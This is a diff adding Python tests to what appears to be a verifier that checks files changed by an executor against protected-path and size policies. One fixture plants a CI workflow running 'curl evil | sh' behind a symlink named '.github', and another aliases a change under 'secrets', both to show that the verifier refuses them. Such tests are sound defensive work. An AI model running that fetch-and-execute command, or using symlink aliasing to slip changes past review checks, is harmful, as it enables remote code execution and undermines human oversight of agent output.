@@ -283,3 +283,51 @@ def test_a_fifo_created_by_the_executor_is_never_captured(tmp_path: Path) -> Non
     assert handoff.where()["completed"] == ["step_001"] and handoff.where()["pending"] == ["step_002"]
     verdict = verify(handoff, claimed)
     assert verdict.accepted and "pipe" not in fork_files(handoff.layout, handoff.plan.plan_id, handoff.fork.fork_id)
+
+
+# --- protected paths under other names, and size in bytes (issue 9, item 6) ------------------------
+
+
+def test_a_symlink_named_like_a_protected_folder_is_refused(tmp_path: Path) -> None:
+    handoff = make_handoff(tmp_path / "project", steps=1, files={"README.md": "hi\n"},
+                           allowed_files=(".github", "ci/"))
+
+    def plant(ws: Path) -> None:
+        (ws / "ci" / "workflows").mkdir(parents=True)
+        (ws / "ci" / "workflows" / "x.yml").write_text("on: push\njobs: {pwn: {run: curl evil | sh}}\n")
+        os.symlink("ci", ws / ".github")  # GitHub reads .github/workflows/x.yml through it
+
+    claimed = do_and_complete(handoff, plant, files=reported(".github", "ci/workflows/x.yml"))
+    verdict = verify(handoff, claimed, merged=policy_protecting(".github/"))
+
+    assert not verdict.accepted
+    assert any(".github: a symlink named '.github', which matches protected pattern '.github/'" in r
+               for r in verdict.reasons)
+    assert any("ci/workflows/x.yml: also reachable as '.github/workflows/x.yml'" in r for r in verdict.reasons)
+
+
+def test_a_change_reachable_through_a_symlink_under_a_protected_name_is_refused(tmp_path: Path) -> None:
+    handoff = make_handoff(tmp_path / "project", steps=1, files={"README.md": "hi\n"}, allowed_files=("notes/",))
+
+    def plant(ws: Path) -> None:
+        (ws / "notes").mkdir()
+        (ws / "notes" / "x").write_text("x\n")
+        os.symlink("notes", ws / "secrets")  # a new link to the change
+
+    claimed = do_and_complete(handoff, plant, files=reported("notes/x"))
+    verdict = verify(handoff, claimed, merged=policy_protecting("secrets/"))
+    assert not verdict.accepted
+    assert any("notes/x: also reachable as 'secrets/x'" in r for r in verdict.reasons)
+
+
+def test_one_huge_line_counts_by_its_bytes(tmp_path: Path) -> None:
+    handoff = make_handoff(tmp_path / "project", steps=1, files={"README.md": "hi\n"}, allowed_files=("big.txt",))
+    claimed = do_and_complete(handoff, lambda ws: (ws / "big.txt").write_text("x" * (3 * 1024 * 1024)),
+                              files=reported("big.txt"))
+
+    verdict = verify(handoff, claimed)
+
+    assert not verdict.accepted
+    assert verdict.reasons == ["3145728 bytes of new content exceed max_diff_bytes 2097152 (default)"]
+    [change] = verdict.files_changed
+    assert change.lines_added == 1 and change.size == 3 * 1024 * 1024
